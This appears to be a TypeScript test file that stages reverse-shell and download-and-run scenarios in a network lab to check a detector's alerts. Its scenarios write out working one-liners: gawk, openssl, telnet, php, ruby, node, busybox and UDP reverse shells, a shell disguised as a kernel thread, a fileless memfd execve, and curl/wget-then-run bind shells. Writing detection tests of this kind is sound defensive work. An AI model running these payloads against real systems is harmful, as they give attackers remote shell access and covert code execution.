// Session 4: shell and download-and-run variants (issue 11, classes 1 and 2) staged nowhere else,
// after common adversary-emulation one-liners: awk's /inet files, TLS and telnet relays, php, ruby,
// node, busybox, a UDP shell, a renamed shell copy, a socketpair relayed by a networked parent,
// a fileless (memfd) execve, and binaries downloaded to ~/Downloads and /var/tmp.
import { execFileSync } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type { TechniqueId } from '../../src-shared/attack';
import type { Alert } from '../../src-shared/model';
import { startAgent } from './agents';
import { ADDR, NS, delay, type Lab, type LabProcess } from './lab';
import { mentions, stopping } from './scenario-kit';
import type { Scenario, StagedActivity } from './scenarios';
import { waitForSocket } from './scenarios-c2';

/** This file's attacker listeners on the "internet" host (shell: sends `id`, then `uname -a` every 2 s). */
const P = {
  gawk: 6001,
  telnetIn: 6002,
  telnetOut: 6003,
  php: 6004,
  ruby: 6005,
  node: 6006,
  busybox: 6007,
  renamed: 6008,
  pair: 6009,
  memfd: 6010,
  rubyLoop: 6011,
};
const TLS_PORT = 6443;
const UDP_PORT = 6053;
const FILES_HOST = ADDR.web[1];
const FILES_PORT = 8090;
const ALSO_TRUE: TechniqueId[] = ['T1059', 'T1571'];

const shellTo =
  (port: number, ...names: string[]) =>
  (alert: Alert): boolean =>
    alert.techniqueId === 'T1059.004' && mentions(alert, `${ADDR.ext}:${port}`) && names.every((n) => mentions(alert, n));

async function shellListeners(lab: Lab, shells: number[], sinks: number[] = []): Promise<LabProcess> {
  const specs = [...shells.map((p) => `${ADDR.ext}:${p}=shell`), ...sinks.map((p) => `${ADDR.ext}:${p}=sink`)];
  return startAgent(lab, NS.ext, 'tcp-server', ['--name', 'session4-shells', ...specs.flatMap((s) => ['--listen', s])]);
}

/** A victim `bash -c` script (in a scratch folder) against this scenario's listeners. */
async function victimScript(lab: Lab, script: string, names: (a: Alert) => boolean, listeners: LabProcess, extra: LabProcess[] = []): Promise<StagedActivity> {
  const victim = lab.run(NS.victim, ['bash', '--norc', '-c', `cd ${lab.tmp} && ${script}`]);
  return { names, stop: stopping(victim, listeners, ...extra) };
}

/** A plain HTTP file server on the external web host, serving copies of system binaries. */
async function binaryServer(lab: Lab, binaries: Record<string, string>): Promise<LabProcess> {
  const dir = mkdtempSync(join(lab.tmp, 'files-'));
  for (const [name, source] of Object.entries(binaries)) copyFileSync(source, join(dir, name));
  const server = lab.run(NS.ext, ['python3', '-m', 'http.server', '--bind', FILES_HOST, '--directory', dir, String(FILES_PORT)]);
  await waitForSocket(lab, NS.ext, ['-ltn'], `${FILES_HOST}:${FILES_PORT}`);
  return server;
}

/** Stops the activity, then deletes the file it ran from. */
function removing(activity: StagedActivity, path: string): () => Promise<void> {
  return async () => {
    await activity.stop();
    rmSync(path, { force: true });
  };
}

const scenario = (s: Omit<Scenario, 'expected' | 'alsoTrue'> & Partial<Pick<Scenario, 'expected' | 'alsoTrue'>>): Scenario => ({
  expected: 'T1059.004',
  alsoTrue: ALSO_TRUE,
  ...s,
});

const PYTHON_PAIR_RELAY = (port: number) => String.raw`
import select, socket, subprocess
s = socket.create_connection(("${ADDR.ext}", ${port}))
a, b = socket.socketpair()
subprocess.Popen(["/bin/sh", "-i"], stdin=a, stdout=a, stderr=a)
a.close()
while True:
    for x in select.select([s, b], [], [])[0]:
        d = x.recv(4096)
        if not d:
            raise SystemExit
        (b if x is s else s).sendall(d)
`;

const MEMFD_EXEC = String.raw`
import os, urllib.request
data = urllib.request.urlopen("http://${FILES_HOST}:${FILES_PORT}/k").read()
fd = os.memfd_create("kworker", 0)
os.write(fd, data)
os.execv("/proc/self/fd/%d" % fd, ["kworker", "${ADDR.ext}", "${P.memfd}"])
`;

export const SESSION4_SHELL_SCENARIOS: Scenario[] = [
  scenario({
    id: 's4-shell-gawk-inet',
    title: `gawk reverse shell: BEGIN{s="/inet/tcp/0/${ADDR.ext}/${P.gawk}"} runs each received line through a |& coprocess`,
    mustName: `gawk and ${ADDR.ext}:${P.gawk}`,
    needs: ['gawk'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `gawk 'BEGIN{s="/inet/tcp/0/${ADDR.ext}/${P.gawk}"; while((s |& getline c)>0){ while((c |& getline l)>0) print l |& s; close(c) } }'`,
        shellTo(P.gawk, 'gawk'),
        await shellListeners(lab, [P.gawk]),
      ),
  }),
  scenario({
    id: 's4-shell-openssl-fifo',
    title: `TLS reverse shell: mkfifo f; sh -i < f 2>&1 | openssl s_client -quiet -connect ${ADDR.ext}:${TLS_PORT} > f`,
    mustName: `sh, openssl and ${ADDR.ext}:${TLS_PORT}`,
    needs: ['openssl', 'mkfifo'],
    windowMs: 12_000,
    async stage(lab) {
      const dir = mkdtempSync(join(lab.tmp, 'tls-'));
      execFileSync(
        'openssl',
        ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(dir, 'k'), '-out', join(dir, 'c'), '-days', '1', '-subj', '/CN=lab'],
        { stdio: 'ignore' },
      );
      const server = lab.run(NS.ext, [
        'bash',
        '--norc',
        '-c',
        `(while :; do echo id; sleep 2; done) | openssl s_server -quiet -accept ${ADDR.ext}:${TLS_PORT} -key ${join(dir, 'k')} -cert ${join(dir, 'c')}`,
      ]);
      await waitForSocket(lab, NS.ext, ['-ltn'], `:${TLS_PORT}`);
      const victim = lab.run(NS.victim, [
        'bash',
        '--norc',
        '-c',
        `cd ${dir} && mkfifo f && sh -i < f 2>&1 | openssl s_client -quiet -connect ${ADDR.ext}:${TLS_PORT} > f`,
      ]);
      return { names: shellTo(TLS_PORT, 'openssl'), stop: stopping(victim, server) };
    },
  }),
  scenario({
    id: 's4-shell-telnet-two-leg',
    title: `telnet ${ADDR.ext} ${P.telnetIn} | /bin/sh | telnet ${ADDR.ext} ${P.telnetOut} (commands in on one connection, output out on another)`,
    mustName: `sh, telnet and ${ADDR.ext}:${P.telnetIn}`,
    needs: ['telnet'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `telnet ${ADDR.ext} ${P.telnetIn} | /bin/sh | telnet ${ADDR.ext} ${P.telnetOut}`,
        (a) => shellTo(P.telnetIn, 'telnet')(a) || shellTo(P.telnetOut, 'telnet')(a),
        await shellListeners(lab, [P.telnetIn], [P.telnetOut]),
      ),
  }),
  scenario({
    id: 's4-shell-php-proc-open',
    title: `php -r '$s=fsockopen("${ADDR.ext}",${P.php}); proc_open("sh", [$s,$s,$s], $pipes)'`,
    mustName: `sh (started by php) on ${ADDR.ext}:${P.php}`,
    needs: ['php'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `php -r '$s=fsockopen("${ADDR.ext}",${P.php});$p=proc_open("sh",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);'`,
        shellTo(P.php, 'sh'),
        await shellListeners(lab, [P.php]),
      ),
  }),
  scenario({
    id: 's4-shell-ruby-socket',
    // Ruby marks every descriptor close-on-exec, so the textbook `exec "/bin/sh -i <&5 …"` fails on
    // Ruby ≥ 2; spawn with the socket as the child's stdio is what works.
    title: `ruby -rsocket: TCPSocket to ${ADDR.ext}:${P.ruby}, spawn("/bin/sh","-i", in: c, out: c, err: c)`,
    mustName: `sh on ${ADDR.ext}:${P.ruby}`,
    needs: ['ruby'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `ruby -rsocket -e 'c=TCPSocket.new("${ADDR.ext}",${P.ruby});Process.wait(spawn("/bin/sh","-i",in: c,out: c,err: c))'`,
        shellTo(P.ruby, 'sh'),
        await shellListeners(lab, [P.ruby]),
      ),
  }),
  scenario({
    id: 's4-shell-ruby-popen-loop',
    title: `ruby -rsocket command loop: each line from ${ADDR.ext}:${P.rubyLoop} runs through IO.popen, its output written back`,
    mustName: `ruby and ${ADDR.ext}:${P.rubyLoop}`,
    needs: ['ruby'],
    windowMs: 12_000,
    knownGap:
      'no process ever has its stdio on the connection or on a pipe to its holder for longer than a command runs (milliseconds, exec without a shell for simple commands): only ruby with inline code holding an outbound connection is visible, which alone also describes benign one-liners; needs exec events (proc connector / eBPF) to see the children',
    stage: async (lab) =>
      victimScript(
        lab,
        `ruby -rsocket -e 'c=TCPSocket.new("${ADDR.ext}",${P.rubyLoop});while(l=c.gets);IO.popen(l.chomp,"r"){|io|c.print io.read};end'`,
        (a) => mentions(a, `${ADDR.ext}:${P.rubyLoop}`) && a.process?.name === 'ruby',
        await shellListeners(lab, [P.rubyLoop]),
      ),
  }),
  scenario({
    id: 's4-shell-node-spawn',
    title: `node -e: net.connect(${ADDR.ext}:${P.node}) piped to and from child_process.spawn("/bin/sh")`,
    mustName: `sh, node and ${ADDR.ext}:${P.node}`,
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `node -e 'const s=require("net").connect(${P.node},"${ADDR.ext}",()=>{const sh=require("child_process").spawn("/bin/sh",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s)})'`,
        shellTo(P.node, 'sh', 'node'),
        await shellListeners(lab, [P.node]),
      ),
  }),
  scenario({
    id: 's4-shell-busybox-fifo',
    title: `busybox only: busybox mkfifo f; busybox sh -i < f 2>&1 | busybox nc ${ADDR.ext} ${P.busybox} > f`,
    mustName: `busybox sh, busybox nc and ${ADDR.ext}:${P.busybox}`,
    needs: ['busybox'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `rm -f bb.fifo && busybox mkfifo bb.fifo && busybox sh -i < bb.fifo 2>&1 | busybox nc ${ADDR.ext} ${P.busybox} > bb.fifo`,
        shellTo(P.busybox, 'busybox'),
        await shellListeners(lab, [P.busybox]),
      ),
  }),
  scenario({
    id: 's4-shell-bash-udp',
    title: `bash --norc -i >& /dev/udp/${ADDR.ext}/${UDP_PORT} 0>&1 (a UDP shell; the attacker answers with ncat -u -l)`,
    mustName: `bash on UDP ${ADDR.ext}:${UDP_PORT}`,
    needs: ['ncat'],
    windowMs: 12_000,
    async stage(lab) {
      const server = lab.run(NS.ext, ['bash', '--norc', '-c', `(while :; do echo id; sleep 2; done) | ncat -u -l ${ADDR.ext} ${UDP_PORT}`]);
      await delay(300);
      const victim = lab.run(NS.victim, ['bash', '--norc', '-c', `bash --norc -i >& /dev/udp/${ADDR.ext}/${UDP_PORT} 0>&1`]);
      return { names: (a) => shellTo(UDP_PORT, 'bash')(a) && a.process?.name === 'bash', stop: stopping(victim, server) };
    },
  }),
  scenario({
    id: 's4-shell-renamed-copy',
    title: `python3 dup2s a socket to ${ADDR.ext}:${P.renamed} onto 0-2 and execs a copy of bash in /tmp named like a kernel thread`,
    mustName: `the copied shell (exe /tmp/…) on ${ADDR.ext}:${P.renamed}`,
    alsoTrue: [...ALSO_TRUE, 'T1105'],
    windowMs: 12_000,
    async stage(lab) {
      const exe = `/tmp/nslab-kworker-${process.pid}`;
      copyFileSync('/bin/bash', exe);
      const activity = await victimScript(
        lab,
        `python3 -c 'import os,socket;s=socket.create_connection(("${ADDR.ext}",${P.renamed}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("${exe}",["[kworker/0:1]","-i"])'`,
        (a) => shellTo(P.renamed)(a) && a.process?.exe === exe,
        await shellListeners(lab, [P.renamed]),
      );
      return { ...activity, stop: removing(activity, exe) };
    },
  }),
  scenario({
    id: 's4-shell-python-socketpair-relay',
    title: `python3 relays ${ADDR.ext}:${P.pair} to sh -i whose stdio is one end of a socketpair`,
    mustName: `sh, python3 and ${ADDR.ext}:${P.pair}`,
    windowMs: 12_000,
    stage: async (lab) => {
      const listeners = await shellListeners(lab, [P.pair]);
      const victim = lab.run(NS.victim, ['python3', '-c', PYTHON_PAIR_RELAY(P.pair)]);
      return { names: (a) => shellTo(P.pair, 'sh')(a) && mentions(a, 'socketpair'), stop: stopping(victim, listeners) };
    },
  }),
  scenario({
    id: 's4-dropped-memfd-exec',
    title: `fileless: python3 downloads a binary from ${FILES_HOST}:${FILES_PORT} into memfd_create() and execve()s it; it connects to ${ADDR.ext}:${P.memfd}`,
    expected: 'T1105',
    alsoTrue: ['T1571', 'T1059'],
    mustName: 'exe /memfd:… (deleted) and its lineage',
    windowMs: 12_000,
    stage: async (lab) => {
      const files = await binaryServer(lab, { k: '/bin/nc.openbsd' });
      return victimScript(
        lab,
        `python3 -c '${MEMFD_EXEC}' > /dev/null`,
        (a) => a.ruleId === 'download-exec' && (a.process?.exe ?? '').startsWith('/memfd:kworker') && mentions(a, `${ADDR.ext}:${P.memfd}`),
        await shellListeners(lab, [P.memfd]),
        [files],
      );
    },
  }),
  scenario({
    id: 's4-dropped-downloads-curl-chmod',
    title: `curl -o ~/Downloads/update http://${FILES_HOST}:${FILES_PORT}/update; chmod +x; ~/Downloads/update TCP:${ADDR.ext}:443 EXEC:sh`,
    expected: 'T1105',
    alsoTrue: ['T1059.004', 'T1059', 'T1571'],
    mustName: 'exe ~/Downloads/… and what it does',
    needs: ['curl', 'socat'],
    windowMs: 12_000,
    stage: async (lab) => {
      const files = await binaryServer(lab, { update: '/usr/bin/socat' });
      const dir = join(process.env.HOME ?? '/root', 'Downloads');
      mkdirSync(dir, { recursive: true });
      const exe = join(dir, `nslab-update-${process.pid}`);
      const activity = await victimScript(
        lab,
        `curl -s -o ${exe} http://${FILES_HOST}:${FILES_PORT}/update && chmod +x ${exe} && ${exe} TCP:${ADDR.ext}:443 EXEC:sh`,
        (a) => a.ruleId === 'download-exec' && a.process?.exe === exe,
        files,
      );
      return { ...activity, stop: removing(activity, exe) };
    },
  }),
  scenario({
    id: 's4-dropped-var-tmp-bind-shell',
    title: `wget -qO /var/tmp/.cache-upd http://${FILES_HOST}:${FILES_PORT}/u; chmod +x; /var/tmp/.cache-upd -lk -p 4445 -e /bin/sh (bind shell)`,
    expected: 'T1105',
    alsoTrue: ['T1059', 'T1571'],
    mustName: 'exe /var/tmp/.cache-upd listening on 4445',
    needs: ['wget', 'ncat'],
    windowMs: 12_000,
    stage: async (lab) => {
      const files = await binaryServer(lab, { u: '/usr/bin/ncat' });
      const exe = `/var/tmp/.cache-upd-${process.pid}`;
      const activity = await victimScript(
        lab,
        `wget -qO ${exe} http://${FILES_HOST}:${FILES_PORT}/u && chmod +x ${exe} && ${exe} -lk -p 4445 -e /bin/sh`,
        (a) => a.ruleId === 'download-exec' && a.process?.exe === exe && mentions(a, '4445'),
        files,
      );
      return { ...activity, stop: removing(activity, exe) };
    },
  }),
];
